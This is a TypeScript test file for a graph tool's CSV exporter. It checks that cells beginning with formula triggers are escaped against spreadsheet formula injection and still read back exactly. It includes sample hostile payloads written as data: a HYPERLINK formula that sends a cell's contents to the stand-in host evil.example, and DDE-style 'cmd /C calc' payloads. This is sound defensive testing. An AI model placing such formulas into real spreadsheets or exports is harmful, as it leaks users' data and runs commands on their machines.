/**
 * Issue #11, hardening round 2 — CSV formula injection (OWASP "CSV Injection").
 *
 * A cell that a spreadsheet would run as a formula — one starting with = + - @,
 * a tab or a CR, also after leading white space or quote marks — is written
 * with a `'` in front and in double quotes. Our own reader takes exactly that
 * `'` off again, so export → import stays lossless, even for a genuine label
 * that itself starts with `'=`.
 */

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { read, write } from '../../../src/graph/formats/csv.ts';
import { parseCsv, writeCsv } from '../../../src/graph/formats/csvCodec.ts';
import { validateDataset, type Dataset } from '../../../src/model/index.ts';

/** The whole text of a written file, whichever shape the write contract has. */
function text(file: { parts?: readonly string[]; content?: string }): string {
  return file.parts ? file.parts.join('') : file.content!;
}

/** A deliberately independent RFC 4180 reader: raw cells as a spreadsheet sees them, and whether each was quoted. */
function rawCells(csv: string): Array<{ value: string; quoted: boolean }> {
  const cells: Array<{ value: string; quoted: boolean }> = [];
  let i = 0;
  while (i < csv.length) {
    let value = '';
    let quoted = false;
    if (csv[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (csv[i] === '"' && csv[i + 1] === '"') (value += '"'), (i += 2);
        else if (csv[i] === '"') {
          i++;
          break;
        } else value += csv[i++];
      }
    } else {
      while (i < csv.length && csv[i] !== ',' && csv[i] !== '\r' && csv[i] !== '\n') value += csv[i++];
    }
    cells.push({ value, quoted });
    if (csv[i] === ',') i++;
    else if (csv[i] === '\r' && csv[i + 1] === '\n') i += 2;
    else if (csv[i] === '\n') i++;
  }
  return cells;
}

/** What Excel / LibreOffice / Google Sheets would evaluate: a trigger first, or after white space and quote marks. */
const FORMULA = /^[\s"']*[=+\-@\t\r]/;

function assertInert(csv: string): void {
  for (const { value, quoted } of rawCells(csv)) {
    if (!FORMULA.test(value)) continue;
    expect(value, `cell ${JSON.stringify(value)} would run as a formula`).toMatch(/^'/);
    expect(quoted, `escaped cell ${JSON.stringify(value)} is quoted`).toBe(true);
  }
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  '-3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '"=1+1',
  "'=already escaped once",
  "''=twice",
  "'plain apostrophe",
  "'",
  'Normal Name',
];

/** A valid dataset whose labels, ids, document id and sentences all start with formula triggers. */
function hostileDataset(): Dataset {
  const sentences = ['- Russia attacked Ukraine.', '=HYPERLINK("http://evil.example","x") said the ministry.', '@channel Russia attacked again.'];
  const text = sentences.join('\n');
  let at = 0;
  const spans = sentences.map((s) => {
    const span = { document: '=doc', start: at, end: at + s.length, note: 'test sentence' };
    at += s.length + 1;
    return span;
  });
  const entities = HOSTILE.map((label, i) => ({ id: i % 2 === 0 ? `-id${i}` : `=id${i}`, label, type: 'organisation' as const, aliases: [], mentions: [] }));
  const relations = entities.slice(1).map((target, i) => ({
    id: i % 3 === 0 ? `+r${i}` : `@r${i}`,
    type: 'accused' as const,
    source: entities[0]!.id,
    target: target.id,
    evidence: [spans[i % spans.length]!],
    hedged: false,
  }));
  const result = validateDataset({ version: 1, documents: [{ id: '=doc', title: 'hostile', text }], entities, relations });
  if (!result.ok) throw new Error(JSON.stringify(result.problems, null, 2));
  return result.dataset;
}

describe('CSV export neutralises formulas (OWASP CSV injection)', () => {
  it('writes no cell a spreadsheet would evaluate: labels, ids, document ids, evidence sentences', () => {
    const csv = text(write(hostileDataset()));
    assertInert(csv);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
    expect(csv).toContain(`"'- Russia attacked Ukraine."`);
    expect(csv).toContain(`"'-3"`);
    expect(csv).toContain(`"''=already escaped once"`);
    // Harmless cells are written as before: no quote, no apostrophe.
    expect(csv).toContain(',Normal Name,');
    expect(csv).toContain(",'plain apostrophe,");
  });

  it('reads back exactly what it wrote: labels, ids and sentences (our reader strips only our escape)', () => {
    const dataset = hostileDataset();
    const back = read(text(write(dataset)), 'hostile.csv').dataset;
    const key = (d: Dataset) => d.entities.map((e) => [e.id, e.label]).sort();
    expect(key(back)).toEqual(key(dataset).filter(([id]) => dataset.relations.some((r) => r.source === id || r.target === id)));
    expect(back.relations.map((r) => [r.id, r.source, r.target])).toEqual(dataset.relations.map((r) => [r.id, r.source, r.target]));
    expect(back.documents.map((d) => d.id)).toEqual(['=doc']);
    for (const sentence of ['- Russia attacked Ukraine.', '=HYPERLINK("http://evil.example","x") said the ministry.', '@channel Russia attacked again.']) {
      expect(back.documents[0]!.text.split('\n')).toContain(sentence);
    }
    // And a second trip writes the same file.
    expect(text(write(back))).toBe(text(write(read(text(write(back)), 'again.csv').dataset)));
  });

  it('a file from another tool keeps a leading apostrophe that is not our escape', () => {
    const { dataset } = read("source,type,target\n'Alpha,met-with,'=Beta\n\"'Gamma\",met-with,\"'x\"\n", 'foreign.csv');
    // Unquoted cells are never ours (we quote every escaped cell); a quoted `'` + non-trigger is not ours either.
    expect(dataset.entities.map((e) => e.label)).toEqual(["'Alpha", "'=Beta", "'Gamma", "'x"]);
  });

  const ALPHABET = ["'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', 'a', '\u00a0', '\ufeff', '3'];
  const awkward = fc.oneof(fc.string({ unit: 'binary', maxLength: 12 }), fc.string({ unit: fc.constantFrom(...ALPHABET), maxLength: 6 }));

  it('codec: any rows of any strings come back exactly, and nothing written is a live formula (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(awkward, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const csv = writeCsv(rows);
        assertInert(csv);
        expect(parseCsv(csv, 'p.csv').map((r) => r.fields)).toEqual(rows);
      }),
      { numRuns: 2000 },
    );
  });

  it('format: any labels and ids survive export → import exactly (property)', () => {
    const nonEmpty = awkward.filter((s) => s.length > 0);
    fc.assert(
      fc.property(fc.uniqueArray(nonEmpty, { minLength: 3, maxLength: 3 }), nonEmpty, nonEmpty, (ids, sourceLabel, targetLabel) => {
        const [sourceId, targetId, relationId] = ids as [string, string, string];
        const dataset: Dataset = {
          version: 1,
          documents: [],
          entities: [
            { id: sourceId, label: sourceLabel, type: 'person', aliases: [], mentions: [] },
            { id: targetId, label: targetLabel, type: 'country', aliases: [], mentions: [] },
          ],
          relations: [{ id: relationId, type: 'met-with', source: sourceId, target: targetId, evidence: [] }],
        };
        // Ids the model refuses anyway ("__proto__", "valueOf") are not this property's business.
        fc.pre(validateDataset(dataset).ok);
        const csv = text(write(dataset));
        assertInert(csv);
        const back = read(csv, 'p.csv').dataset;
        expect(back.entities.map((e) => [e.id, e.label, e.type])).toEqual(dataset.entities.map((e) => [e.id, e.label, e.type]));
        expect(back.relations.map((r) => [r.id, r.source, r.target, r.type])).toEqual([[relationId, sourceId, targetId, 'met-with']]);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('CSV export is written in parts, never one string', () => {
  it('returns several parts for many rows, which join to the file', () => {
    const many: Dataset = {
      version: 1,
      documents: [],
      entities: Array.from({ length: 200 }, (_, i) => ({ id: `e${i}`, label: `Entity ${i}`, type: 'country' as const, aliases: [], mentions: [] })),
      relations: Array.from({ length: 5000 }, (_, i) => ({ id: `r${i}`, type: 'met-with' as const, source: `e${i % 200}`, target: `e${(i * 7 + 1) % 200}`, evidence: [] })),
    };
    const file = write(many) as { parts?: readonly string[] };
    expect(Array.isArray(file.parts)).toBe(true);
    expect(file.parts!.length).toBeGreaterThan(1);
    const rows = parseCsv(file.parts!.join(''), 'many.csv');
    expect(rows).toHaveLength(5001);
    expect(write(many, { bom: true }).parts[0]!.startsWith('\uFEFFsource,type,target,')).toBe(true);
  });
});
